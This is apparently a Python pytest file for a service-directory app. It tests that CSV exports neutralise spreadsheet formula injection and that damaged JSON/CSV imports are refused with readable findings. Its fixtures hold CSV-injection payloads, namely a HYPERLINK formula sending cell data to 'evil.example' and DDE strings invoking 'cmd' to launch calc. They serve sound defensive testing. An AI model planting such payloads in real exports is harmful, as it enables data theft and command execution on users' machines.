"""Hostile and damaged directory files: formulas stay text in exports, and imports refuse what
they cannot read with findings in words (never an exception): a file that cannot be read imports
nothing; a damaged service is left out and listed while the rest import.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sp_desktop.domain.directory import Category, Service
from sp_desktop.interchange import oruk
from sp_desktop.interchange.directory_files import DirectoryReading
from sp_desktop.interchange.directory_files.findings import Finding
from sp_desktop.services.directory import DirectoryService, ImportMode, ImportRefused

from .conftest import DATA, entry

COUNCIL = DATA / "council_directory.json"
FORMULA = re.compile(r"^[=+\-@\t\r]")
# What the csv and json modules say in their own words; a person should never read these.
LIBRARY_WORDS = ("field limit", "Error", "Traceback", "sys.set_int_max_str_digits", "NUL")

HOSTILE = [
    entry(
        '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
        id="0193a7c2-0000-7000-8000-000000000001",
        organisation="+cmd|' /C calc'!A0",
        description="-2+3",
        contact_phone="+44 1632 960001",
        contact_name="@SUM(1+1)*cmd|' /C calc'!A0",
        cost="'=already quoted",
        schedule="''+twice",
        area="'Tis the season",  # a real leading apostrophe stays as it is
        accessibility="= spaced",
    ),
    entry("Lunch club", id="0193a7c2-0000-7000-8000-000000000002", cost="£4.50",
          contact_phone="01632 960002"),
]


@pytest.fixture
def existing(directory: DirectoryService) -> DirectoryService:
    directory.import_services([entry("Chess club")], ImportMode.MERGE)
    return directory


def assert_nothing_imported(directory: DirectoryService) -> None:
    assert [s.name for s in directory.all()] == ["Chess club"]


def in_words(findings: Sequence[Finding]) -> list[Finding]:
    assert findings
    for finding in findings:
        words = str(finding)
        assert not any(w in words for w in LIBRARY_WORDS), words
    return list(findings)


def refused_in_words(directory: DirectoryService, path: Path) -> list[Finding]:
    with pytest.raises(ImportRefused) as refused:
        directory.import_file(path, ImportMode.REPLACE)
    assert_nothing_imported(directory)
    return in_words(refused.value.findings)


# --- formulas in a CSV export ------------------------------------------------------------------


def test_a_csv_export_never_starts_a_cell_with_a_formula(
    directory: DirectoryService, tmp_path: Path
) -> None:
    directory.import_services(HOSTILE, ImportMode.REPLACE)
    path = tmp_path / "export.csv"
    assert directory.export_file(path) == 2
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if FORMULA.match(cell)]
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click for details\")" in cells
    assert "'+44 1632 960001" in cells and "'Tis the season" in cells
    assert "''=already quoted" in cells


def test_a_csv_export_imports_back_exactly(directory: DirectoryService, tmp_path: Path) -> None:
    directory.import_services(HOSTILE, ImportMode.REPLACE)
    path = tmp_path / "export.csv"
    directory.export_file(path)
    parsed = directory.check_file(path)
    assert parsed.findings == ()
    assert sorted(parsed.services, key=lambda s: s.id) == sorted(HOSTILE, key=lambda s: s.id)
    summary = directory.import_file(path, ImportMode.REPLACE)
    assert (summary.added, summary.updated, summary.removed, summary.unchanged) == ((), (), (), 2)


# --- size ----------------------------------------------------------------------------------------


def test_a_file_over_the_size_cap_is_refused_by_its_size_unread(
    existing: DirectoryService, tmp_path: Path
) -> None:
    path = tmp_path / "directory.json"
    with path.open("wb") as file:  # sparse: its size says 60 MB, nothing is written
        file.truncate(60 * 1024 * 1024)
    (problem,) = refused_in_words(existing, path)
    assert str(problem).startswith("directory.json: is larger than 50 MB (this one is 60 MB).")


def test_the_cap_is_exact(
    existing: DirectoryService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At the cap a file is read; one byte more and it is refused (a small cap, same code)."""
    header = (",".join(oruk.CSV_COLUMNS) + "\r\n").encode()
    monkeypatch.setattr(oruk, "MAX_FILE_BYTES", len(header) + 10)
    path = tmp_path / "directory.csv"
    path.write_bytes(header + b"\r\n" * 5)
    parsed = existing.check_file(path)
    assert parsed.findings == () and parsed.services == ()
    path.write_bytes(header + b"\r\n" * 5 + b" ")
    (problem,) = refused_in_words(existing, path)
    assert "is larger than 50 MB" in str(problem)


# --- damage, each reported in words --------------------------------------------------------------


def _council() -> dict[str, Any]:
    return json.loads(COUNCIL.read_text(encoding="utf-8"))  # type: ignore[no-any-return]


def _with_name(value: Any) -> bytes:
    data = _council()
    data["contents"][0]["name"] = value
    return json.dumps(data).encode()


DAMAGED = {
    "nested 200,000 deep": ("json", b"[" * 200_000 + b"]" * 200_000, "nested too deeply"),
    "a number 5,000 digits long": ("json", b"[" + b"7" * 5000 + b"]", "number too long"),
    "invalid UTF-8": ("json", b'[{"name": "Caf\xe9"}]', "not UTF-8"),
    "a PNG renamed": ("json", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not UTF-8"),
    "zero bytes in JSON": ("json", b'[{"id": "a"}]\x00\x00', "zero bytes"),
    "zero bytes in CSV": ("csv", b"id,name,status,category\r\na,Lunch\x00club,active,x\r\n",
                          "zero bytes"),
    "a cell of 200,000 characters": (
        "csv", b'id,name,status,category\r\na,"' + b"x" * 200_000 + b'",active,Social\r\n',
        "longer than 131,072 characters",
    ),
    "a quote never closed": ("csv", b'id,name,status,category\r\na,"Lunch,active,x\r\n',
                             "quote"),
    "a stray quote": ("csv", b'id,name,status,category\r\na,"Lu"nch,active,x\r\n', "quote"),
    "a bare string": ("json", b'"directory"', "should be a list of services"),
    "a number": ("json", b"42", "should be a list of services"),
    "null": ("json", b"null", "should be a list of services"),
    "contents as an object": ("json", b'{"contents": {"id": "a"}}', "should be a list"),
    "an empty file": ("csv", b"", "is empty"),
}  # fmt: skip
# Damage inside one service: that service is listed and left out (or, for a value an entry can
# do without, kept without it); the file's other services import.
DAMAGED_SERVICE = {
    "a lone surrogate in a name": ("json", _with_name("Caf\udce9 club"), "cannot be text", 3),
    "a name that is a list": ("json", _with_name(["a", "b"]), "should be text", 3),
    "weeks written as a superscript": (
        "csv",
        b"id,name,status,category,waiting_weeks\r\na,Lunch,active,Social activity,\xc2\xb2\r\n",
        "not a whole number", 1,
    ),
}  # fmt: skip


@pytest.mark.parametrize("damage", list(DAMAGED), ids=list(DAMAGED))
def test_a_damaged_file_is_refused_with_problems_in_words(
    existing: DirectoryService, tmp_path: Path, damage: str
) -> None:
    kind, content, words = DAMAGED[damage]
    path = tmp_path / f"directory.{kind}"
    path.write_bytes(content)
    found = refused_in_words(existing, path)
    assert any(words in str(p) for p in found), [str(p) for p in found]


@pytest.mark.parametrize("damage", list(DAMAGED_SERVICE), ids=list(DAMAGED_SERVICE))
def test_a_damaged_service_is_listed_in_words_and_the_rest_import(
    existing: DirectoryService, tmp_path: Path, damage: str
) -> None:
    kind, content, words, imported = DAMAGED_SERVICE[damage]
    path = tmp_path / f"directory.{kind}"
    path.write_bytes(content)
    found = in_words(existing.check_file(path).findings)
    assert any(words in str(p) for p in found), [str(p) for p in found]
    summary = existing.import_file(path, ImportMode.MERGE)
    assert len(summary.added) == imported


# --- fuzzing: damaged copies of a real file never raise ------------------------------------------


def _mutated(data: bytes, edits: list[tuple[int, int, bytes]]) -> bytes:
    """Applies (where, how many bytes to drop, what to put there) edits, as damage would."""
    for where, drop, put in edits:
        at = where % (len(data) + 1)
        data = data[:at] + put + data[at + drop :]
    return data


_EDITS = st.lists(
    st.tuples(
        st.integers(0, 1 << 20),
        st.integers(0, 64),
        st.binary(max_size=8)
        | st.sampled_from([b"\x00", b"\xff", b'"', b"[", b"{", b"\r\n", b",", b"\\u", b"\xe9"]),
    ),
    min_size=1,
    max_size=6,
)
_CSV_EXPORT = oruk.to_csv(HOSTILE)
_JSON_EXPORT = COUNCIL.read_bytes()


def _reads_or_says_why(data: bytes, kind: str) -> None:
    """Parsing never raises, and what it accepts can be stored: text without zero bytes or
    lone surrogates (which the store would refuse with an exception)."""
    parsed = oruk.parse(data, kind)
    assert isinstance(parsed, DirectoryReading)
    for finding in parsed.findings:
        assert str(finding).strip()
    for service in parsed.services:
        assert isinstance(service, Service) and service.name.strip()
        for value in vars_of(service):
            if isinstance(value, str):
                assert "\x00" not in value
                value.encode("utf-8")


def vars_of(service: Service) -> list[Any]:
    return [getattr(service, name) for name in service.__dataclass_fields__]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_EDITS, st.sampled_from(["json", "csv"]))
def test_damaged_copies_of_real_files_never_raise(edits: list[tuple[int, int, bytes]],
                                                  kind: str) -> None:
    original = _JSON_EXPORT if kind == "json" else _CSV_EXPORT
    _reads_or_says_why(_mutated(original, edits), kind)


HUGE = "a number 5,000 digits long"  # json.dumps cannot write it: put in by hand
# Values damage and hostile files hold: superscript and Arabic-Indic digits, zero bytes, lone
# surrogates, numbers too long to read, formulas.
_TRICKY = st.sampled_from(["²", "٣", "\x00", "\udce9", "7" * 5000, "=cmd|' /C calc'!A0", "'=x"])
_ANY_TEXT = _TRICKY | st.text(st.characters(blacklist_categories=()), max_size=12)
_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _ANY_TEXT
    | st.sampled_from([HUGE, -1, 2.5]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner,
                                                                max_size=3),
    max_leaves=12,
)
def _paths(node: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON tree (object keys and list positions), deepest included."""
    found = [here] if here else []
    children = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(
        node, list) else ()
    for key, child in children:
        found.extend(_paths(child, (*here, key)))
    return found


_PLACES = _paths(_council()["contents"])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(_PLACES), _JSON_VALUES)
def test_any_value_anywhere_in_a_service_is_a_problem_or_a_service(
    place: tuple[Any, ...], value: Any
) -> None:
    data = _council()
    node = data["contents"]
    for key in place[:-1]:
        node = node[key]
    node[place[-1]] = value
    written = json.dumps(data).encode().replace(json.dumps(HUGE).encode(), b"7" * 5000)
    _reads_or_says_why(written, "json")


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(_ANY_TEXT, max_size=25), max_size=6))
def test_any_csv_cells_are_problems_or_services(rows: list[list[str]]) -> None:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(oruk.CSV_COLUMNS)
    writer.writerows(rows)
    _reads_or_says_why(out.getvalue().encode("utf-8", "surrogatepass"), "csv")


def test_the_fuzzed_files_were_real_directories_to_begin_with() -> None:
    assert len(oruk.parse(_JSON_EXPORT, "json").services) == 4
    assert oruk.parse(_CSV_EXPORT, "csv").services == tuple(HOSTILE)
    assert Category.SOCIAL_ACTIVITY in {s.category for s in HOSTILE}
